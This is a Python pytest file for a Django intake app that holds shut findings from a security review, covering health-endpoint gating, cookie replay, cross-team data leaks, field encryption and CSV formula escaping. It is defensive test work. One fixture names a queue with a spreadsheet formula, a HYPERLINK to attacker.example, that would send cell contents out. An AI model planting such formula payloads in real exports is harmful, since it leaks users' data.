"""What an attack review of a production-like deployment found, each held shut by a test.

One section per finding: /healthz (answers without the broker; status only in public), the
thanks page on a shared device, earlier inquiries in other teams' queues, a resubmitted form
with edited text, ``away_reasons`` at rest, formulas in the CSV export, response headers, and
a batch recording each message as the mail server accepts it. The crash drill and /healthz
against a real gunicorn are in tests/integration/test_hardening_drills.py; reproducible
installs in tests/test_requirements.py; the Server banner in tests/test_hardening.py.
"""

from __future__ import annotations

import csv
import io
import json
import socket
import threading
import time
from datetime import timedelta
from importlib import import_module

import pytest
import time_machine
from cryptography.fernet import Fernet
from django.contrib.auth.models import Group
from django.core import mail
from django.core.management import call_command
from django.db import connection
from django.test import Client, override_settings
from django.utils import timezone

from intake import crypto, health, services, tasks
from intake.messaging import email as email_channel
from intake.models import InboundMessage, Inquiry, InquiryEvent, OutboundMessage, Site
from reengage.settings import base as base_settings
from tests import support
from tests.factories import QueueFactory, coordinator, default_queue, submission
from tests.test_views import hidden, valid

pytestmark = pytest.mark.django_db


@pytest.fixture(autouse=True)
def _fresh_heartbeats():
    health.heartbeats_forget()
    yield
    health.heartbeats_forget()


# --- 1. /healthz ------------------------------------------------------------------------------


class NeverAnswers:
    """A TCP listener that accepts and never says a word (a broker that hangs)."""

    def __init__(self) -> None:
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(64)
        self.port = self.sock.getsockname()[1]
        self.conns: list[socket.socket] = []
        self.stop = threading.Event()
        self.thread = threading.Thread(target=self._accept, daemon=True)
        self.thread.start()

    def _accept(self) -> None:
        self.sock.settimeout(0.05)
        while not self.stop.is_set():
            try:
                self.conns.append(self.sock.accept()[0])
            except OSError:
                continue

    @property
    def url(self) -> str:
        return f"redis://127.0.0.1:{self.port}/0"

    def close(self) -> None:
        self.stop.set()
        self.thread.join(2)
        for conn in self.conns:
            conn.close()
        self.sock.close()


def _production_like(url: str) -> dict:
    """The settings base.py makes from REDIS_URL=url: broker, cache and the health cache."""
    redis_cache = {"BACKEND": "django.core.cache.backends.redis.RedisCache", "LOCATION": url}
    return {
        "CELERY_TASK_ALWAYS_EAGER": False,
        "REDIS_URL": url,
        "CELERY_BROKER_URL": url,
        "CACHES": {
            # As base.py sets it: reading heartbeats from here would wait up to 2 s.
            "default": {
                **redis_cache,
                "OPTIONS": {"socket_connect_timeout": 2, "socket_timeout": 2},
            },
            "forms": {"BACKEND": "django.core.cache.backends.locmem.LocMemCache"},
            "health": {**redis_cache, "OPTIONS": base_settings.HEALTH_CACHE_OPTIONS},
        },
    }


def test_healthz_answers_in_under_100_ms_with_a_broker_that_never_answers(settings) -> None:
    settings.HEALTHZ_TOKEN = "monitor-token"
    listener = NeverAnswers()
    try:
        with override_settings(**_production_like(listener.url)):
            client = Client()
            # Once per process: the first request imports the redis client (not timed).
            client.get("/healthz", HTTP_AUTHORIZATION="Bearer monitor-token")
            health.heartbeats_forget()
            timings = []
            for detail in (False, True, False, True, False, True):
                headers = {"HTTP_AUTHORIZATION": "Bearer monitor-token"} if detail else {}
                started = time.monotonic()
                response = client.get("/healthz", **headers)
                timings.append(time.monotonic() - started)
                assert response.status_code == 200, response.content
                if detail:
                    body = response.json()
                    assert body["broker"] == "unavailable" and body["status"] == "degraded"
                    health.heartbeats_forget()  # every detailed answer asks Redis again
                else:
                    assert response.json() == {"status": "ok"}
    finally:
        listener.close()
    assert max(timings) < 0.1, [round(t, 3) for t in timings]


def test_anyone_gets_the_status_only_and_it_never_touches_the_heartbeats(monkeypatch) -> None:
    def refuse(*args, **kwargs):
        raise AssertionError("the public answer must not read the heartbeats")

    monkeypatch.setattr(health, "_stamps", refuse)
    with override_settings(CELERY_TASK_ALWAYS_EAGER=False):
        response = Client().get("/healthz")
    assert response.status_code == 200 and response.json() == {"status": "ok"}
    assert "no-cache" in response["Cache-Control"] or "max-age=0" in response["Cache-Control"]


def test_the_detail_needs_the_token_or_staff_signed_in_with_their_second_step(settings) -> None:
    settings.HEALTHZ_TOKEN = "monitor-token"
    detail_keys = {"database", "broker", "worker", "beat", "oldest_pending_message_seconds"}

    def body(client: Client, **headers) -> dict:
        return json.loads(client.get("/healthz", **headers).content)

    anonymous = Client()
    assert body(anonymous) == {"status": "ok"}
    assert body(anonymous, HTTP_AUTHORIZATION="Bearer wrong-token") == {"status": "ok"}
    assert body(anonymous, HTTP_AUTHORIZATION="monitor-token") == {"status": "ok"}
    assert detail_keys <= set(body(anonymous, HTTP_AUTHORIZATION="Bearer monitor-token"))

    staff = Client()
    staff.force_login(coordinator(default_queue(), "lee"))
    settings.ADMIN_REQUIRE_2FA = True  # signed in, second step not taken: status only
    assert body(staff) == {"status": "ok"}
    settings.ADMIN_REQUIRE_2FA = False
    assert detail_keys <= set(body(staff))
    from tests.factories import UserFactory

    person = Client()
    person.force_login(UserFactory(username="not-staff", is_staff=False))
    assert body(person) == {"status": "ok"}
    settings.HEALTHZ_TOKEN = ""  # no token set: no "Bearer " opens the detail
    assert body(anonymous, HTTP_AUTHORIZATION="Bearer ") == {"status": "ok"}


def test_the_heartbeats_say_which_part_stopped(settings) -> None:
    settings.HEALTH_HEARTBEAT_SECONDS = 15
    settings.OUTBOX_SWEEP_INTERVAL = 60
    caches_health = {"BACKEND": "django.core.cache.backends.locmem.LocMemCache", "LOCATION": "hb"}
    with override_settings(
        CELERY_TASK_ALWAYS_EAGER=False, CACHES={**settings.CACHES, "health": caches_health}
    ):
        report = health.health_report()
        assert report["worker"] == "no heartbeat yet from routing, messages"
        assert report["beat"] == "no sweep yet" and report["status"] == "degraded"
        # What beat does every interval: a heartbeat task to each queue, run by a worker.
        for queue in health.QUEUES:
            tasks.health_heartbeat_task.apply(routing_key=queue).get()
        health.heartbeat_record(health.BEAT_HEARTBEAT_KEY)
        report = health.health_report()
        assert (report["broker"], report["worker"], report["beat"]) == ("ok", "ok", "ok")
        assert report["status"] == "ok"
        with time_machine.travel(timezone.now() + timedelta(seconds=70)):
            health.heartbeats_forget()
            tasks.health_heartbeat_task.apply(routing_key="routing").get()
            report = health.health_report()
            assert report["worker"].startswith("no heartbeat from messages for 7")
            assert report["broker"] == "ok" and report["beat"] == "ok"
        with time_machine.travel(timezone.now() + timedelta(seconds=400)):
            health.heartbeats_forget()
            report = health.health_report()
            assert report["beat"].startswith("stale (") and report["broker"].startswith("quiet")
        assert Client().get("/healthz").json() == {"status": "ok"}


def test_beat_sends_a_heartbeat_to_each_queue_that_expires_with_its_interval(settings) -> None:
    entries = [
        e
        for e in settings.CELERY_BEAT_SCHEDULE.values()
        if e["task"] == "intake.tasks.health_heartbeat_task"
    ]
    assert sorted(e["options"]["queue"] for e in entries) == sorted(health.QUEUES)
    for entry in entries:
        assert entry["options"]["expires"] == entry["schedule"] == settings.HEALTH_HEARTBEAT_SECONDS


# --- 2. The thanks page on a shared device ------------------------------------------------------


def test_the_thanks_page_is_shown_once_then_the_neutral_one_which_leads_with_the_crisis_line(
    client: Client, settings, django_capture_on_commit_callbacks
) -> None:
    default_queue()
    with django_capture_on_commit_callbacks(execute=True):
        posted = client.post("/", {**hidden(client), **valid(safety="not_safe")})
    assert posted.status_code == 303
    cookie = posted.cookies[settings.THANKS_COOKIE_NAME]
    assert 0 < int(cookie["max-age"]) <= 300 and cookie["httponly"]

    first = client.get("/thanks/")
    assert "If you might be in danger, please get help right now." in first.content.decode()
    assert first.cookies[settings.THANKS_COOKIE_NAME]["max-age"] == 0  # deleted when shown

    # A reload after tapping 988, or the next person at the kiosk: the neutral page.
    for again in (client.get("/thanks/"), Client().get("/thanks/")):
        html = again.content.decode()
        assert again.status_code == 200
        assert "If you might be in danger" not in html
        assert "We got your message. Thank you for reaching out." in html
        crisis = html.index('class="crisis-line"')
        assert 'href="tel:988"' in html[crisis : crisis + 400]
        assert crisis < html.index("<main") < html.index("<h1>")


def test_a_replayed_thanks_cookie_shows_the_neutral_page(client: Client, settings) -> None:
    default_queue()
    posted = client.post("/", {**hidden(client), **valid(safety="not_safe")})
    replayed = posted.cookies[settings.THANKS_COOKIE_NAME].value
    assert "danger" in client.get("/thanks/").content.decode()
    other = Client()
    # A cookie copied from the first visit still carries its signature: a copy is refused
    # once it is older than the short max-age, whoever holds it.
    other.cookies[settings.THANKS_COOKIE_NAME] = replayed
    with time_machine.travel(timezone.now() + timedelta(minutes=10)):
        assert "danger" not in other.get("/thanks/").content.decode()


# --- 3. Earlier inquiries in other teams' queues ----------------------------------------------


@pytest.fixture
def one_person_two_teams(roles, django_capture_on_commit_callbacks):
    """One person (one e-mail): two inquiries in queue North, one in another team's queue."""
    from intake.models import RoutingRule

    north = default_queue()
    south = QueueFactory(name="Southside", slug="southside")
    RoutingRule.objects.create(order=1, queue=south, language="es")
    ana = coordinator(north, "ana")
    coordinator(south, "bo")
    ana.groups.add(Group.objects.get(name="Intake coordinator"))
    made = {}
    for name, language in (("first", "en"), ("theirs", "es"), ("latest", "en")):
        with django_capture_on_commit_callbacks(execute=True):
            made[name] = services.inquiry_submit(
                submission=submission(email="river@example.com", language=language)
            )
        if name != "latest":  # they came back after each one closed
            Inquiry.objects.filter(pk=made[name].pk).update(status=Inquiry.Status.CLOSED)
    for inquiry in made.values():
        inquiry.refresh_from_db()
    assert made["theirs"].queue == south and made["latest"].queue == north
    client = Client()
    client.force_login(ana)
    return {**made, "client": client}


def test_earlier_inquiries_link_and_name_only_what_the_coordinator_may_open(
    one_person_two_teams,
) -> None:
    ctx = one_person_two_teams
    client, theirs, first, latest = ctx["client"], ctx["theirs"], ctx["first"], ctx["latest"]
    page = client.get(f"/admin/intake/inquiry/{latest.pk}/change/")
    assert page.status_code == 200
    html = page.content.decode()
    assert f"/admin/intake/inquiry/{first.pk}/change/" in html
    assert f"/admin/intake/inquiry/{theirs.pk}/" not in html
    assert theirs.short_id not in html and str(theirs.public_id) not in html
    assert "and 1 with another team" in html
    case = page.context["case"]
    assert [e.pk for e in case.earlier] == [first.pk] and case.earlier_elsewhere == 1

    # The worklist says no more than the page: no link to, or id of, the other team's
    # inquiry, and a count no larger than "the one you may open, and 1 with another team".
    listing = client.get("/admin/intake/inquiry/?status=all")
    html = listing.content.decode()
    assert theirs.short_id not in html and f"/admin/intake/inquiry/{theirs.pk}/" not in html
    rows = {row.pk: row for row in listing.context["cl"].result_list}
    assert set(rows) == {first.pk, latest.pk}
    assert all(row.earlier_count <= 1 + 1 for row in rows.values())


# --- 4. A resubmitted form with edited text -----------------------------------------------------


def test_a_resent_form_with_edited_text_keeps_the_new_text_with_the_inquiry(
    client: Client, django_capture_on_commit_callbacks
) -> None:
    default_queue()
    form = hidden(client)
    edited = "I'm thinking about coming back. Also: evenings are better for me now."
    with django_capture_on_commit_callbacks(execute=True):
        assert client.post("/", {**form, **valid()}).status_code == 303
        # Back, edit, send again (the page still holds the same submission token) — twice.
        for _ in range(2):
            assert client.post("/", {**form, **valid(message=edited)}).status_code == 303
        assert client.post("/", {**form, **valid()}).status_code == 303  # the first text again
    inquiry = Inquiry.objects.get()
    assert inquiry.message == "I'm thinking about coming back. Is that okay?"
    further = InboundMessage.objects.get(inquiry=inquiry)
    assert (further.channel, further.body) == ("form", edited)
    added = inquiry.events.filter(kind=InquiryEvent.Kind.FOLLOW_UP_ADDED)
    assert [(e.reason, e.data) for e in added] == [("resubmitted", {"inbound": further.pk})]
    assert len(mail.outbox) == 1  # one acknowledgement: it is still one inquiry
    assert "We got your message" in client.get("/thanks/").content.decode()


def test_a_resent_form_that_now_says_they_are_not_safe_makes_the_inquiry_urgent(
    client: Client, django_capture_on_commit_callbacks
) -> None:
    queue = default_queue()
    form = hidden(client)
    with django_capture_on_commit_callbacks(execute=True):
        client.post("/", {**form, **valid()})
        inquiry = Inquiry.objects.get()
        assert inquiry.priority == "routine"
        client.post("/", {**form, **valid(safety="not_safe")})
    inquiry.refresh_from_db()
    assert Inquiry.objects.count() == 1
    assert inquiry.priority == "urgent" and inquiry.safety == "not_safe"
    kinds = sorted(inquiry.messages.values_list("kind", flat=True))
    assert kinds == ["acknowledgement", "on_call_alert", "urgent_alert"]
    raised = inquiry.events.get(kind=InquiryEvent.Kind.PRIORITY_CHANGED)
    assert (raised.from_state, raised.to_state) == ("routine", "urgent")
    assert any(queue.alert_email in m.to for m in mail.outbox)
    # Its one showing of the thanks page is the crisis version.
    assert "If you might be in danger" in client.get("/thanks/").content.decode()


def test_a_held_or_quarantined_first_copy_is_released_when_the_resent_one_has_a_risk_level(
    django_capture_on_commit_callbacks,
) -> None:
    default_queue()
    with django_capture_on_commit_callbacks(execute=True):
        held = services.inquiry_submit(
            submission=submission(email="held@example.com"),
            submission_token="t-held",
            over_rate_limit=True,
        )
        spam = services.inquiry_submit(
            submission=submission(email="spam@example.com"),
            submission_token="t-spam",
            honeypot_filled=True,
            too_fast=True,
        )
        assert held.is_held and spam.is_spam and not OutboundMessage.objects.exists()
        for token, email in (("t-held", "held@example.com"), ("t-spam", "spam@example.com")):
            services.inquiry_submit(
                submission=submission(email=email, safety="not_safe"), submission_token=token
            )
    for inquiry in (held, spam):
        inquiry.refresh_from_db()
        assert inquiry.priority == "urgent" and not inquiry.is_held and not inquiry.is_spam
        ack = inquiry.messages.get(kind=OutboundMessage.Kind.ACKNOWLEDGEMENT)
        assert ack.template_key == "acknowledgement_crisis"
    assert Inquiry.objects.count() == 2


# --- 5. away_reasons at rest --------------------------------------------------------------------


def _raw_away_reasons(pk: int) -> str:
    """The column as stored (PostgreSQL hands a jsonb column back already parsed)."""
    with connection.cursor() as cursor:
        cursor.execute("SELECT away_reasons FROM intake_inquiry WHERE id = %s", [pk])
        value = cursor.fetchone()[0]
    return value if isinstance(value, str) else json.dumps(value)


def test_away_reasons_are_encrypted_at_rest_and_read_back_as_a_list_of_codes() -> None:
    default_queue()
    reasons = ["mental_health", "substance_use", "loss"]
    with_reasons = services.inquiry_submit(
        submission=submission(email="a@example.com", away_reasons=reasons)
    )
    one = services.inquiry_submit(
        submission=submission(email="b@example.com", away_reasons=["work"])
    )
    none = services.inquiry_submit(submission=submission(email="c@example.com"))
    raws = [_raw_away_reasons(i.pk) for i in (with_reasons, one, none)]
    for raw in raws:
        assert raw.startswith(crypto.TOKEN_PREFIX)
        for code in ("substance", "mental", "loss", "work", "["):
            assert code not in raw
    # Padded: the token's length says nothing about which reasons, or how many.
    assert len({len(raw) for raw in raws}) == 1
    assert Inquiry.objects.get(pk=with_reasons.pk).away_reasons == reasons
    assert Inquiry.objects.get(pk=none.pk).away_reasons == []
    assert list(Inquiry.objects.filter(pk=one.pk).values_list("away_reasons", flat=True)) == [
        ["work"]
    ]


def test_away_reasons_rotate_with_the_other_fields_and_retention_erases_them(settings) -> None:
    default_queue()
    inquiry = services.inquiry_submit(submission=submission(away_reasons=["substance_use"]))
    before = _raw_away_reasons(inquiry.pk)
    old_key = settings.FIELD_ENCRYPTION_KEYS[0]
    new_key = Fernet.generate_key().decode()
    settings.FIELD_ENCRYPTION_KEYS = [new_key, old_key]
    call_command("rotate_encryption_keys", stdout=io.StringIO())
    after = _raw_away_reasons(inquiry.pk)
    assert after != before
    settings.FIELD_ENCRYPTION_KEYS = [new_key]  # the old key is gone: it still reads
    assert Inquiry.objects.get(pk=inquiry.pk).away_reasons == ["substance_use"]

    Inquiry.objects.filter(pk=inquiry.pk).update(
        status=Inquiry.Status.CLOSED, updated_at=timezone.now() - timedelta(days=4000)
    )
    assert services.purge_expired().erased == 1
    assert Inquiry.objects.get(pk=inquiry.pk).away_reasons == []
    assert "substance" not in crypto.decrypt(_raw_away_reasons(inquiry.pk))


def test_the_coordinators_page_still_shows_the_reasons_in_words(roles) -> None:
    queue = default_queue()
    ana = coordinator(queue, "ana")
    ana.groups.add(Group.objects.get(name="Intake coordinator"))
    inquiry = services.inquiry_submit(
        submission=submission(away_reasons=["transportation", "substance_use"])
    )
    Inquiry.objects.filter(pk=inquiry.pk).update(queue=queue)
    client = Client()
    client.force_login(ana)
    html = client.get(f"/admin/intake/inquiry/{inquiry.pk}/change/").content.decode()
    assert "Transportation, Substance use" in html and "substance_use" not in html


@pytest.mark.django_db(transaction=True)
def test_the_migration_encrypts_existing_rows_and_reverses_to_plain_json() -> None:
    from django.db.migrations.executor import MigrationExecutor

    migration = import_module("intake.migrations.0109_encrypt_away_reasons")
    before = ("intake", "0108_reassessment_place_and_review")
    executor = MigrationExecutor(connection)
    leaves = executor.loader.graph.leaf_nodes()
    try:
        executor.migrate([before])
        state = MigrationExecutor(connection).loader.project_state(before)
        old_inquiry = state.apps.get_model("intake", "Inquiry")
        plain = old_inquiry.objects.create(
            message="", away_reasons=["family", "burnout"], contact_method="email"
        )
        empty = old_inquiry.objects.create(message="", away_reasons=[], contact_method="email")
        assert json.loads(_raw_away_reasons(plain.pk)) == ["family", "burnout"]

        MigrationExecutor(connection).migrate([("intake", migration.__name__.rsplit(".", 1)[1])])
        raw = _raw_away_reasons(plain.pk)
        assert raw.startswith(crypto.TOKEN_PREFIX) and "family" not in raw
        assert json.loads(crypto.decrypt(raw)) == ["family", "burnout"]
        assert json.loads(crypto.decrypt(_raw_away_reasons(empty.pk))) == []
        # Read as the models stood at this migration (later ones add columns).
        after = ("intake", migration.__name__.rsplit(".", 1)[1])
        encrypted = MigrationExecutor(connection).loader.project_state(after)
        assert encrypted.apps.get_model("intake", "Inquiry").objects.get(
            pk=plain.pk
        ).away_reasons == ["family", "burnout"]

        MigrationExecutor(connection).migrate([before])
        assert json.loads(_raw_away_reasons(plain.pk)) == ["family", "burnout"]
        assert json.loads(_raw_away_reasons(empty.pk)) == []
    finally:
        MigrationExecutor(connection).migrate(leaves)
    assert Inquiry.objects.get(pk=plain.pk).away_reasons == ["family", "burnout"]


# --- 6. Formulas in the CSV export --------------------------------------------------------------


def test_the_csv_export_never_hands_a_spreadsheet_a_formula(roles) -> None:
    queue = default_queue(name='=HYPERLINK("http://attacker.example/?"&A1,"Open")')
    site = Site.objects.create(name="+SUM(1+1)", slug="plus-site")
    ana = coordinator(queue, "@ana")
    ana.groups.add(Group.objects.get(name="Intake coordinator"))
    inquiry = services.inquiry_submit(submission=submission(site_id=site.pk))
    Inquiry.objects.filter(pk=inquiry.pk).update(queue=queue, assigned_to=ana)
    Site.objects.create(name="-2+3", slug="minus-site")
    client = Client()
    client.force_login(ana)
    export = client.get("/admin/intake/inquiry/export.csv?status=all&quarantine=all")
    rows = list(csv.DictReader(io.StringIO(export.content.decode())))
    assert len(rows) == 1
    row = rows[0]
    assert row["queue"] == "'" + queue.name
    assert row["site"] == "'+SUM(1+1)"
    assert row["assigned_to"] == "'@ana"
    for value in row.values():
        assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
    assert row["inquiry"] == str(inquiry.public_id) and row["status"] == "new"


def test_only_cells_a_spreadsheet_would_run_are_changed() -> None:
    from intake.admin.csv_safe import cell

    for risky in ("=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", " =1", "\n=1"):
        assert cell(risky) == "'" + risky
    for fine in ("North", "2026-12-01T10:00:00+00:00", "", "a=b", "e-mail", None, 3):
        assert cell(fine) == ("" if fine is None else str(fine))


# --- 7. Headers -------------------------------------------------------------------------------


def test_permissions_policy_no_longer_lists_the_retired_interest_cohort(client: Client) -> None:
    for path in ("/", "/thanks/", "/healthz", "/admin/login/"):
        policy = client.get(path)["Permissions-Policy"]
        assert "interest-cohort" not in policy, path
        assert "camera=()" in policy and "geolocation=()" in policy


def test_gunicorn_is_configured_to_drop_its_server_banner() -> None:
    from gunicorn.http import wsgi

    class Request:
        version = (1, 1)

        def should_close(self) -> bool:
            return True

    conf = support.ROOT / "gunicorn.conf.py"
    original = wsgi.Response.default_headers
    exec(compile(conf.read_text(), str(conf), "exec"), {})  # as gunicorn loads it
    try:
        response = wsgi.Response(Request(), sock=None, cfg=None)
        response.status = "200 OK"
        lines = wsgi.Response.default_headers(response)
        assert lines[0].startswith("HTTP/1.1 200") and any(x.startswith("Date:") for x in lines)
        assert not [line for line in lines if line.lower().startswith("server:")]
        assert "Server: gunicorn\r\n" in original(response)  # what gunicorn does by itself
    finally:
        wsgi.Response.default_headers = original


# --- 9. A batch records each message as the mail server accepts it ------------------------------


def test_a_batch_records_each_message_as_soon_as_the_server_accepts_it(monkeypatch) -> None:
    if not connection.features.has_select_for_update_skip_locked:
        support.require("services", "batched delivery needs PostgreSQL: set DATABASE_URL")
    default_queue()
    owed = [
        services.inquiry_submit(submission=submission(email=f"p{i}@example.com")).messages.get()
        for i in range(5)
    ]
    real_send = email_channel.send_email
    seen_while_sending: list[list[str]] = []

    def send(**kwargs):
        # What a crash at this instant would leave: everything accepted so far is recorded.
        current = dict(OutboundMessage.objects.values_list("pk", "status"))
        seen_while_sending.append([current[m.pk] for m in owed])
        return real_send(**kwargs)

    monkeypatch.setattr(email_channel, "send_email", send)
    services.message_deliver(message_id=owed[0].pk, batch=10)
    sent, sending = OutboundMessage.Status.SENT, OutboundMessage.Status.SENDING
    assert seen_while_sending == [[sent] * i + [sending] * (5 - i) for i in range(5)]
    for message in owed:
        assert message.inquiry.events.filter(kind=InquiryEvent.Kind.MESSAGE_SENT).count() == 1
